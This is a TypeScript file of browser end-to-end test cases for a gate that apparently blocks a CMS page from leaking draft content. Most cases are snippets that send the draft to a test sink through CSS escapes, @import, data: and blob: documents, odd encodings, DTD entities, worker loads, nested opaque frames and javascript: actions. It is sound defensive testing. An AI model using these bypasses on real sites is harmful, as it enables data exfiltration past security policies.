/**
 * The cases of gate-parsed-loads (the eleventh and twelfth probes, and the Firefox probe's cases
 * ported to Chromium; test/e2e/gate-parsed-loads.e2e.test.ts, Chromium; and
 * test/e2e-firefox/gate-parsed-loads.e2e.test.ts): what the browser loads from what it parses —
 * CSS as it tokenizes it, data: and blob: documents and stylesheets, other encodings, DTD entities, a
 * worker's loaders, a fresh frame's Location, opaque frames fed by postMessage, javascript: actions.
 * Page script after PRE, over a browser's probe harness (probe-harness.ts).
 */

/**
 * Page helpers: the draft percent-encoded, a box in the page, a wait until its style has loaded, a
 * <style>, a wait, an `<img>` tag with the draft, a frame, UTF-16LE percent escapes and bytes (with a
 * BOM), UTF-8 base64, the ID in two halves.
 */
export const PRE = String.raw`
  const enc = encodeURIComponent(draft);
  const box = (cls) => { const el = document.createElement('div'); el.style.width = '40px'; el.style.height = '40px'; if (cls) el.className = cls; document.body.append(el); return el; };
  const paint = async (el) => { getComputedStyle(el).backgroundImage; await new Promise((r) => requestAnimationFrame(() => setTimeout(r, 700))); };
  const styleEl = (text) => { const s = document.createElement('style'); s.textContent = text; document.head.append(s); return s; };
  const wait = (ms) => new Promise((r) => setTimeout(r, ms));
  const img = (name) => '<img src="' + sink(name) + '?content=' + enc + '">';
  const sheetOf = async (href) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = href; document.head.append(l); await wait(900); };
  const frameOf = async (src, name) => { const f = document.createElement('iframe'); if (name) f.name = name; if (src) f.src = src; document.body.append(f); await wait(1000); return f; };
  const u16 = (s) => Array.from(s, (c) => { const n = c.charCodeAt(0); return '%' + (n & 255).toString(16).padStart(2, '0') + '%' + (n >> 8).toString(16).padStart(2, '0'); }).join('');
  const u16bytes = (s) => { const b = new Uint8Array(2 + s.length * 2); b[0] = 0xff; b[1] = 0xfe; for (let i = 0; i < s.length; i++) { b[2 + 2 * i] = s.charCodeAt(i) & 255; b[3 + 2 * i] = s.charCodeAt(i) >> 8; } return b; };
  const b64 = (s) => btoa(unescape(encodeURIComponent(s)));
  const IDA = ID.slice(0, 10);
  const IDB = ID.slice(10);
`;

/** Page helper: the directives the page's policies refused, as its securitypolicyviolation events name them. */
export const VIOLATIONS = String.raw`const violations = []; document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));`;

export const CSS_CASES: [label: string, code: string][] = [
  [
    "unquoted url() with an escaped ')' before the draft (el.style.backgroundImage)",
    String.raw`const el = box(); el.style.backgroundImage = 'url(' + sink('p11-url-paren') + '?a=\\)&content=' + enc + ')'; await paint(el);`,
  ],
  [
    "unquoted url() with an escaped ')' before the draft (a <style>'s text)",
    String.raw`styleEl('.p11a{background-image:url(' + sink('p11-url-paren-style') + '?a=\\)&content=' + enc + ')}'); await paint(box('p11a'));`,
  ],
  [
    'unquoted url() with an escaped space before the draft (el.style.backgroundImage)',
    String.raw`const el = box(); el.style.backgroundImage = 'url(' + sink('p11-url-space') + '?a=\\ &content=' + enc + ')'; await paint(el);`,
  ],
  [
    "image-set(\"…\") whose string holds a ')' before the draft",
    String.raw`const el = box(); el.style.backgroundImage = 'image-set("' + sink('p11-iset-paren') + '?a=)&content=' + enc + '" 1x)'; await paint(el);`,
  ],
  [
    'image-set() with a gradient first: the string after it',
    String.raw`const el = box(); el.style.backgroundImage = 'image-set(linear-gradient(red, red) 2x, "' + sink('p11-iset-grad') + '?content=' + enc + '" 1x)'; await paint(el);`,
  ],
  [
    'image-set() with a type() first: the string after it',
    String.raw`const el = box(); el.style.backgroundImage = 'image-set("/none.p11" type("image/x-none") 1x, "' + sink('p11-iset-type') + '?content=' + enc + '" 1x)'; await paint(el);`,
  ],
  [
    '@import"…" without a space (a <style>\'s text)',
    String.raw`styleEl('@import"' + sink('p11-import-nospace') + '?content=' + enc + '";'); await new Promise((r) => setTimeout(r, 700));`,
  ],
  [
    '@import/**/"…" (a comment in place of the space)',
    String.raw`styleEl('@import/**/"' + sink('p11-import-comment') + '?content=' + enc + '";'); await new Promise((r) => setTimeout(r, 700));`,
  ],
  [
    '@import "…" with an escaped quote before the draft',
    String.raw`styleEl('@import "' + sink('p11-import-quote') + '?a=\\"&content=' + enc + '";'); await new Promise((r) => setTimeout(r, 700));`,
  ],
  [
    "a custom property's string with a ';' before the draft, used by image-set(var())",
    String.raw`const el = box(); el.style.cssText = 'width:40px;height:40px;--s:"' + sink('p11-custom-semi') + '?a=;&content=' + enc + '";background-image:image-set(var(--s) 1x)'; await paint(el);`,
  ],
  [
    'setProperty of a custom property whose string holds a \'}\' before the draft, used by image-set(var())',
    String.raw`const el = box(); el.style.setProperty('--s', '"' + sink('p11-custom-brace') + '?a=}&content=' + enc + '"'); el.style.backgroundImage = 'image-set(var(--s) 1x)'; await paint(el);`,
  ],
  [
    "a custom property written '--s/**/:' (a comment before the colon), used by image-set(var())",
    String.raw`const el = box(); el.style.cssText = 'width:40px;height:40px;--s/**/:"' + sink('p11-custom-comment') + '?content=' + enc + '";background-image:image-set(var(--s) 1x)'; await paint(el);`,
  ],
  [
    "an @property rule's initial-value string, used by image-set(var())",
    String.raw`styleEl('@property --p11s{syntax:"*";inherits:false;initial-value:"' + sink('p11-atproperty') + '?content=' + enc + '"} .p11b{background-image:image-set(var(--p11s) 1x)}'); await paint(box('p11b'));`,
  ],
  [
    "Typed OM: attributeStyleMap.set('--s', string), used by image-set(var())",
    String.raw`const el = box(); el.attributeStyleMap.set('--s', '"' + sink('p11-typedom-custom') + '?content=' + enc + '"'); el.style.backgroundImage = 'image-set(var(--s) 1x)'; await paint(el);`,
  ],
  [
    "markup: a style attribute (innerHTML) whose unquoted url() has an escaped ')' before the draft",
    String.raw`const d = document.createElement('div'); d.innerHTML = '<div style="width:40px;height:40px;background-image:url(' + sink('p11-markup-paren') + '?a=\\)&content=' + enc + ')"></div>'; document.body.append(d); await paint(d.firstChild);`,
  ],
  [
    "CSS.registerProperty with a string initialValue (no url()), used by image-set(var())",
    String.raw`CSS.registerProperty({ name: '--p11r', syntax: '*', inherits: false, initialValue: '"' + sink('p11-register-string') + '?content=' + enc + '"' });
     const el = box(); el.style.backgroundImage = 'image-set(var(--p11r) 1x)'; await paint(el);`,
  ],
  [
    '<link rel=stylesheet> to a data: URL whose @import names the draft',
    String.raw`const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'data:text/css,' + encodeURIComponent('@import url("' + sink('p11-data-link') + '?content=' + enc + '");'); document.head.append(l); await new Promise((r) => setTimeout(r, 700));`,
  ],
  [
    "a <style>'s @import of a data: stylesheet whose own @import names the draft",
    String.raw`styleEl('@import url("data:text/css,' + encodeURIComponent('@import url("' + sink('p11-data-import') + '?content=' + enc + '");') + '");'); await new Promise((r) => setTimeout(r, 700));`,
  ],
  [
    '<object> whose data is a data: HTML document holding an <img> with the draft',
    String.raw`const o = document.createElement('object'); o.width = 50; o.height = 50; o.data = 'data:text/html,' + encodeURIComponent('<img src="' + sink('p11-data-object') + '?content=' + enc + '">'); document.body.append(o); await new Promise((r) => setTimeout(r, 1000));`,
  ],
  [
    '<iframe> whose src is a data: HTML document holding an <img> with the draft (no script in it)',
    String.raw`const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent('<img src="' + sink('p11-data-iframe') + '?content=' + enc + '">'); document.body.append(f); await new Promise((r) => setTimeout(r, 1000));`,
  ],
  [
    '<embed> whose src is a data: SVG document holding an <image> with the draft',
    String.raw`const e = document.createElement('embed'); e.type = 'image/svg+xml'; e.width = 50; e.height = 50; e.src = 'data:image/svg+xml,' + encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><image href="' + sink('p11-data-embed') + '?content=' + enc + '" width="10" height="10"/></svg>'); document.body.append(e); await new Promise((r) => setTimeout(r, 1000));`,
  ],
  [
    'markup: an SVG <style> whose @import names the draft as character references (foreign content decodes them)',
    String.raw`const refs = Array.from(sink('p11-svg-style') + '?content=' + enc, (c) => '&#' + c.charCodeAt(0) + ';').join('');
     const d = document.createElement('div'); d.innerHTML = '<svg><style>@import "' + refs + '";</style></svg>'; document.body.append(d); await new Promise((r) => setTimeout(r, 700));`,
  ],
];

export const OTHER_CASES: [label: string, code: string][] = [
  [
    "a worker's FontFace loaded (self.fonts)",
    String.raw`return await inWorker("const f = new FontFace('p11w', 'url(' + sink('p11-worker-font') + '?content=' + encodeURIComponent(draft) + ')'); self.fonts.add(f); await f.load().catch(() => {});");`,
  ],
  [
    "a worker's Cache.add (caches.open in the worker)",
    String.raw`return await inWorker("const c = await caches.open('p11'); await c.add(sink('p11-worker-cache') + '?content=' + encodeURIComponent(draft)).catch(() => {});");`,
  ],
  [
    "a worker's Cache.addAll",
    String.raw`return await inWorker("const c = await caches.open('p11b'); await c.addAll([sink('p11-worker-cacheall') + '?content=' + encodeURIComponent(draft)]).catch(() => {});");`,
  ],
];

/** The twelfth probe: documents and stylesheets decoded otherwise than as UTF-8 (data: and blob:). */
export const ENCODING_CASES: [label: string, code: string][] = [
  [
    'data: HTML frame in UTF-16 (charset=utf-16le), its <img> naming the draft',
    String.raw`await frameOf('data:text/html;charset=utf-16le,' + u16(img('p12-utf16-charset')));`,
  ],
  [
    'data: HTML frame in UTF-16 by its BOM alone (no charset)',
    String.raw`await frameOf('data:text/html,%FF%FE' + u16(img('p12-utf16-bom')));`,
  ],
  [
    'data: stylesheet (<link>) in UTF-16 (charset=utf-16le), its @import naming the draft',
    String.raw`const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'data:text/css;charset=utf-16le,' + u16('@import url("' + sink('p12-utf16-css') + '?content=' + enc + '");'); document.head.append(l); await wait(900);`,
  ],
  [
    'data: stylesheet (<link>) in UTF-16 by its BOM alone',
    String.raw`const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'data:text/css,%FF%FE' + u16('@import url("' + sink('p12-utf16-css-bom') + '?content=' + enc + '");'); document.head.append(l); await wait(900);`,
  ],
  [
    'data: HTML frame in ISO-2022-JP, an escape sequence (ESC ( B) inside the ID that the decoder drops',
    String.raw`await frameOf('data:text/html;charset=iso-2022-jp,' + encodeURIComponent('<img src="' + sink('p12-iso2022jp') + '?c=' + IDA) + '%1B(B' + encodeURIComponent(IDB + '">'));`,
  ],
  [
    'blob: HTML frame in UTF-16 (BOM, type text/html), its <img> naming the draft',
    String.raw`await frameOf(URL.createObjectURL(new Blob([u16bytes(img('p12-blob-utf16'))], { type: 'text/html' })));`,
  ],
  [
    'blob: stylesheet (<link>) in UTF-16 (BOM, type text/css), its @import naming the draft',
    String.raw`const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = URL.createObjectURL(new Blob([u16bytes('@import url("' + sink('p12-blob-utf16-css') + '?content=' + enc + '");')], { type: 'text/css' })); document.head.append(l); await wait(900);`,
  ],
  [
    'data: HTML frame declaring ISO-2022-JP by <meta charset>, an escape sequence inside the ID',
    String.raw`await frameOf('data:text/html,' + encodeURIComponent('<meta charset="iso-2022-jp"><img src="' + sink('p12-meta-iso2022jp') + '?c=' + IDA) + '%1B(B' + encodeURIComponent(IDB + '">'));`,
  ],
  [
    'blob: HTML frame declaring ISO-2022-JP by <meta charset>, an escape sequence inside the ID',
    String.raw`await frameOf(URL.createObjectURL(new Blob(['<meta charset="iso-2022-jp"><img src="' + sink('p12-blob-iso2022jp') + '?c=' + IDA + '\x1b(B' + IDB + '">'], { type: 'text/html' })));`,
  ],
  [
    'blob: stylesheet (<link>) declaring @charset "iso-2022-jp", an escape sequence inside the ID of its @import',
    String.raw`const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = URL.createObjectURL(new Blob(['@charset "iso-2022-jp";@import url("' + sink('p12-blob-css-iso2022jp') + '?c=' + IDA + '\x1b(B' + IDB + '");'], { type: 'text/css' })); document.head.append(l); await wait(900);`,
  ],
];

/** The twelfth probe: XML whose DTD entities build the URL. */
export const ENTITY_CASES: [label: string, code: string][] = [
  [
    "DOMParser (image/svg+xml): an <image> href made of two DTD entities, the ID split between them, imported into the page",
    String.raw`const xml = '<!DOCTYPE svg [<!ENTITY a "' + sink('p12-dtd-domparser') + '?c=' + IDA + '"><!ENTITY b "' + IDB + '">]><svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><image href="&a;&b;" width="10" height="10"/></svg>';
     const doc = new DOMParser().parseFromString(xml, 'image/svg+xml'); document.body.append(document.importNode(doc.documentElement, true)); await wait(1000);`,
  ],
  [
    '<embed> of a data: SVG document whose <image> href is made of two DTD entities',
    String.raw`const xml = '<!DOCTYPE svg [<!ENTITY a "' + sink('p12-dtd-embed') + '?c=' + IDA + '"><!ENTITY b "' + IDB + '">]><svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><image href="&a;&b;" width="10" height="10"/></svg>';
     const e = document.createElement('embed'); e.type = 'image/svg+xml'; e.width = 50; e.height = 50; e.src = 'data:image/svg+xml,' + encodeURIComponent(xml); document.body.append(e); await wait(1200);`,
  ],
  [
    'DOMParser (application/xhtml+xml): one DTD entity holding the whole URL with the draft, the <img> imported',
    String.raw`const xml = '<!DOCTYPE html [<!ENTITY u "' + sink('p12-dtd-xhtml') + '?content=' + enc.replace(/%/g, '&#37;') + '">]><html xmlns="http://www.w3.org/1999/xhtml"><body><img src="&u;"/></body></html>';
     const doc = new DOMParser().parseFromString(xml, 'application/xhtml+xml'); document.body.append(document.importNode(doc.querySelector('img'), true)); await wait(1000);`,
  ],
];

/** A data: document sent into a fresh frame by a link, a form's action or a meta refresh (the twelfth probe). */
export const FRESH_FRAME_CASES: [label: string, code: string][] = [
  [
    'a link to a data: HTML document aimed at a named frame, clicked',
    String.raw`await frameOf('', 'p12t'); const a = document.createElement('a'); a.href = 'data:text/html,' + encodeURIComponent(img('p12-link-target-data')); a.target = 'p12t'; a.textContent = 'x'; document.body.append(a); a.click(); await wait(1200);`,
  ],
  [
    'a form whose action is a data: HTML document, posted into a named frame',
    String.raw`await frameOf('', 'p12fm'); const fm = document.createElement('form'); fm.method = 'post'; fm.action = 'data:text/html,' + encodeURIComponent(img('p12-form-data')); fm.target = 'p12fm'; document.body.append(fm); fm.requestSubmit(); await wait(1200);`,
  ],
  [
    'a meta refresh to a data: HTML document written into a fresh frame',
    String.raw`const f = await frameOf(''); const m = f.contentDocument.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=data:text/html,' + encodeURIComponent(img('p12-fresh-refresh-data')); f.contentDocument.head.append(m); await wait(1500);`,
  ],
];

/**
 * The twelfth probe's open case: a fresh frame's Location set to a data: document (no hook, no request
 * carrying the URL). Both delivered with a5972d0; now refused by the CMS page's frame-src
 * (lib/gate/data-frame-rules.ts), which the page's own securitypolicyviolation event names.
 */
export const FRESH_FRAME_LOCATION_CASES: [label: string, code: string][] = [
  [
    "a fresh frame's contentWindow.location.href set to a data: HTML document",
    String.raw`const f = await frameOf(''); f.contentWindow.location.href = 'data:text/html,' + encodeURIComponent(img('p12-location-data')); await wait(1500);`,
  ],
  [
    'frames[n].location.replace() of a fresh frame to a data: HTML document',
    String.raw`await frameOf(''); frames[frames.length - 1].location.replace('data:text/html,' + encodeURIComponent(img('p12-location-replace-data'))); await wait(1500);`,
  ],
];

/**
 * Found by the Firefox probe (2026-12-06, test/e2e-firefox/gate-firefox-probe.e2e.test.ts): an opaque
 * frame whose maker it cannot name — inside another opaque frame, behind referrerpolicy=no-referrer —
 * asked for its own address, was told not covered and stood down; page code posted it the draft.
 * `inner` is such a frame's script: it fetches what it is posted. The two nested ones delivered the ID
 * with the build before (4640f48's parent) in Chromium too; the no-referrer one held there already
 * (it delivered in Firefox).
 */
export const OPAQUE = String.raw`
  const inner = '<script>onmessage = (e) => fetch(e.data, { method: "POST", mode: "no-cors", body: "x" })<\/script>';
  const posted = async (f, name) => { await new Promise((r) => (f.onload = r)); f.contentWindow.postMessage(sink(name) + '?content=' + enc, '*'); await wait(800); };
`;

export const OPAQUE_CASES: [label: string, code: string][] = [
  [
    'a sandboxed srcdoc inside a sandboxed srcdoc',
    String.raw`const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = '<iframe srcdoc="' + inner.replace(/&/g, '&amp;').replace(/"/g, '&quot;') + '"></iframe><script>onmessage = (e) => frames[0].postMessage(e.data, "*")<\/script>'; document.body.append(f); await posted(f, 'ff-nest-srcdoc');`,
  ],
  [
    'a data: frame inside a data: frame',
    String.raw`const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent('<iframe src="data:text/html,' + encodeURIComponent(inner) + '"></iframe><script>onmessage = (e) => frames[0].postMessage(e.data, "*")<\/script>'); document.body.append(f); await posted(f, 'ff-nest-data');`,
  ],
  [
    'a data: frame behind referrerpolicy=no-referrer',
    String.raw`const f = document.createElement('iframe'); f.referrerPolicy = 'no-referrer'; f.src = 'data:text/html,' + encodeURIComponent(inner); document.body.append(f); await posted(f, 'ff-noref-data');`,
  ],
];

/** Found by the Firefox probe too: a form's `javascript:` action or a link's `javascript:` href aimed at a fresh frame makes its document of a variable's markup. */
export const JAVASCRIPT_ACTION_CASES: [label: string, code: string][] = [
  [
    'form.submit() with action="javascript:parent.h" into a fresh frame',
    String.raw`window.h = img('ff-form-js'); const f = await frameOf('', 'jf' + Date.now()); const form = document.createElement('form'); form.action = 'javascript:parent.h'; form.target = f.name; document.body.append(form); form.submit(); await wait(800);`,
  ],
  [
    'requestSubmit() with action="javascript:parent.h" into a fresh frame',
    String.raw`window.h = img('ff-form-js-request'); const f = await frameOf('', 'jr' + Date.now()); const form = document.createElement('form'); form.action = 'javascript:parent.h'; form.target = f.name; document.body.append(form); form.requestSubmit(); await wait(800);`,
  ],
  [
    'a link with href="javascript:parent.h" aimed at a fresh frame, clicked',
    String.raw`window.h = img('ff-link-js'); const f = await frameOf('', 'jl' + Date.now()); const a = document.createElement('a'); a.href = 'javascript:parent.h'; a.target = f.name; a.textContent = 'x'; document.body.append(a); a.click(); await wait(800);`,
  ],
];

/** A clean data: document in a frame or an <object>: refused by the covered page's frame-src (run on the guarded host only, after VIOLATIONS). */
export const REFUSED_FRAME_CASES: [label: string, code: string][] = [
    ['a clean data: HTML frame (src)', String.raw`await frameOf('data:text/html,' + encodeURIComponent('<img src="' + sink('p12-refused-data-frame') + '?v=8">'));`],
    ['a clean data: HTML <object>', String.raw`const o = document.createElement('object'); o.data = 'data:text/html,' + encodeURIComponent('<img src="' + sink('p12-refused-data-object') + '?v=9">'); document.body.append(o); await wait(1000);`],
];

/**
 * What must keep working: each arrives, nothing carrying the ID. (A data: document in a frame, an
 * <object> or an <embed> is refused outright on a covered page, lib/gate/data-frame-rules.ts: the
 * readings of a charset parameter and of base64 are walked on stylesheets.)
 */
export const CLEAN_CASES: [label: string, code: string][] = [
  ['a clean unquoted url() with an escaped character still loads', String.raw`const el = box(); el.style.backgroundImage = 'url(' + sink('p11-clean-url') + '?v=1\\)2)'; await paint(el);`],
  ["a clean Typed OM background-image still loads", String.raw`const el = box(); el.attributeStyleMap.set('background-image', CSSStyleValue.parse('background-image', 'url("' + sink('p11-clean-typedom') + '?v=' + Date.now() + '")')); await paint(el);`],
  ["a clean image-set() with a gradient first still loads", String.raw`const el = box(); el.style.backgroundImage = 'image-set(linear-gradient(red, red) 2x, "' + sink('p11-clean-iset') + '?v=2" 1x)'; await paint(el);`],
  ["a worker's clean Cache.add still fetches", String.raw`return await inWorker("const c = await caches.open('p11c'); await c.add(sink('p11-clean-cache') + '?v=3').catch(() => {});");`],
  ['a form with action="javascript:save()" on the page itself still calls it', String.raw`window.save = () => fetch(sink('ff-clean-js-action') + '?v=3'); const form = document.createElement('form'); form.action = 'javascript:save()'; document.body.append(form); form.submit(); await wait(500);`],
  ['a link with href="javascript:save()" on the page itself still calls it', String.raw`window.save = () => fetch(sink('ff-clean-js-link') + '?v=5'); const a = document.createElement('a'); a.href = 'javascript:save()'; a.textContent = 'x'; document.body.append(a); a.click(); await wait(500);`],
  ['a clean data: stylesheet with a charset parameter still loads its @import', String.raw`await sheetOf('data:text/css;charset=utf-8,' + encodeURIComponent('@import url("' + sink('p12-clean-data-charset') + '?v=2");'));`],
  ['a clean base64 data: stylesheet still loads its @import', String.raw`await sheetOf('data:text/css;base64,' + b64('@import url("' + sink('p12-clean-data-b64') + '?v=3");'));`],
  ["a clean blob: HTML frame still loads its picture (frame-src refuses data: only)", String.raw`await frameOf(URL.createObjectURL(new Blob(['<img src="' + sink('p12-clean-blob-frame') + '?v=6">'], { type: 'text/html' })));`],
  ["a fresh frame's Location set to a CMS page still loads it", String.raw`const f = await frameOf(''); f.contentWindow.location.href = sink('p12-clean-location') + '?v=7'; await wait(1200);`],
  ['a clean SVG from DOMParser, its picture named by a DTD entity, still loads once imported', String.raw`const xml = '<!DOCTYPE svg [<!ENTITY u "' + sink('p12-clean-dtd') + '?v=5">]><svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><image href="&u;" width="10" height="10"/></svg>';
     const doc = new DOMParser().parseFromString(xml, 'image/svg+xml'); document.body.append(document.importNode(doc.documentElement, true)); await wait(1000);`],
];
